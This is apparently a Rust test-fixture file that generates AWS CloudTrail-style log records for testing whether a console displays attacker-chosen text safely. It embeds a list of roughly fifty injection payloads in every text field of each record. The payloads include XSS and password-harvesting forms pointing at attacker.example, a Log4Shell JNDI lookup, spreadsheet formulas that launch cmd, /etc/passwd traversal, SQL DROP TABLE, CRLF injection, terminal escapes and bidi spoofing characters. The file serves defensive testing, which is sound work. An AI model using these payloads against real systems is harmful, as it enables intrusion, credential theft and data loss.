//! Attacker's text: every member of a record that someone outside the account can choose holds a payload.
//!
//! A user agent, a user name tried at the sign-in page, a bucket name in a refused call: none of them needs
//! rights in the account. A console must show each as the characters it is made of.

/// Texts that do harm when they are shown as markup, followed as links, run as formulas, printed to a
/// terminal, or trusted to read in one direction.
pub const PAYLOADS: &[&str] = &[
    // markup
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "'><body onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>details</a>",
    "<form action=https://attacker.example><input name=password autofocus>",
    "<base href=https://attacker.example/>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
    "<link rel=stylesheet href=https://attacker.example/x.css>",
    "<style>*{display:none}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<ScRiPt/src=//attacker.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "<img src=\"https://attacker.example/pixel.gif\">",
    // attributes, links, templates
    "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//attacker.example/path",
    "https://attacker.example/?console.aws.amazon.com",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "${jndi:ldap://attacker.example/a}",
    "`;alert(1);//",
    // text direction, invisible and combining characters
    "user\u{202e}gpj.exe",
    "\u{2066}admin\u{2069}\u{200f}",
    "al\u{200b}ana\u{2060}\u{feff}",
    "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}\u{34f}\u{334}a\u{346}\u{343}lgo",
    "\u{430}lana",
    // control characters, terminals, log lines
    "\u{1b}[2J\u{1b}[31mred",
    "\u{1b}]0;title\u{7}\u{8}\u{8}",
    "line one\r\nline two\r\nSet-Cookie: a=b",
    "nul\u{0}byte",
    // spreadsheets, paths, queries
    "=HYPERLINK(\"https://attacker.example\",\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3\t=1",
    "../../../../etc/passwd",
    "%00%0d%0a%2e%2e%2f",
    "'; DROP TABLE events; --",
    "user:* OR event:*",
    "\"unbalanced \\",
    "__proto__",
];

/// One record per payload, each with the payload in every member that takes text: identity, agent, address,
/// names, region, error, request, response and resources. Ids are `hostile-000`, `hostile-001`, …, times one
/// minute apart from 2026-01-15T00:00:00Z.
pub fn hostile() -> Vec<String> {
    PAYLOADS.iter().enumerate().map(|(n, payload)| record(n, &escape(payload))).collect()
}

fn record(n: usize, payload: &str) -> String {
    format!(
        r#"{{"eventVersion":"1.09","userIdentity":{{"type":"IAMUser","principalId":"{payload}","arn":"arn:aws:iam::111122223333:user/{payload}","accountId":"111122223333","accessKeyId":"{payload}","userName":"{payload}","invokedBy":"{payload}","sessionContext":{{"sessionIssuer":{{"type":"Role","userName":"{payload}","arn":"{payload}"}},"sourceIdentity":"{payload}","attributes":{{"mfaAuthenticated":"{payload}"}}}}}},"eventTime":"2026-01-15T{:02}:{:02}:00Z","eventSource":"{payload}","eventName":"{payload}","awsRegion":"{payload}","sourceIPAddress":"{payload}","userAgent":"{payload}","errorCode":"{payload}","errorMessage":"{payload}","requestParameters":{{"bucketName":"{payload}","{payload}":["{payload}"],"nested":{{"{payload}":"{payload}"}}}},"responseElements":{{"{payload}":"{payload}"}},"additionalEventData":{{"{payload}":"{payload}"}},"requestID":"{payload}","eventID":"hostile-{n:03}","readOnly":false,"resources":[{{"accountId":"{payload}","type":"{payload}","ARN":"arn:aws:s3:::{payload}"}}],"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"{payload}","vpcEndpointId":"{payload}","eventCategory":"Management","tlsDetails":{{"tlsVersion":"{payload}","cipherSuite":"{payload}","clientProvidedHostHeader":"{payload}"}}}}"#,
        n / 60,
        n % 60,
    )
}

/// The text as the inside of a JSON string.
fn escape(text: &str) -> String {
    let mut escaped = String::new();
    for c in text.chars() {
        match c {
            '"' | '\\' => escaped.extend(['\\', c]),
            c if c.is_control() => escaped.push_str(&format!("\\u{:04x}", u32::from(c))),
            c => escaped.push(c),
        }
    }
    escaped
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_payload_arrives_unchanged_in_every_member() {
        assert!(PAYLOADS.len() >= 40);
        for (record, payload) in hostile().iter().zip(PAYLOADS) {
            let value: serde_json::Value = serde_json::from_str(record).unwrap();
            for member in
                ["eventSource", "eventName", "awsRegion", "sourceIPAddress", "userAgent", "errorMessage"]
            {
                assert_eq!(value[member], *payload, "{member}");
            }
            assert_eq!(value["userIdentity"]["userName"], *payload);
            assert_eq!(value["requestParameters"][payload][0], *payload);
            assert_eq!(value["resources"][0]["ARN"], format!("arn:aws:s3:::{payload}"));
        }
    }
}
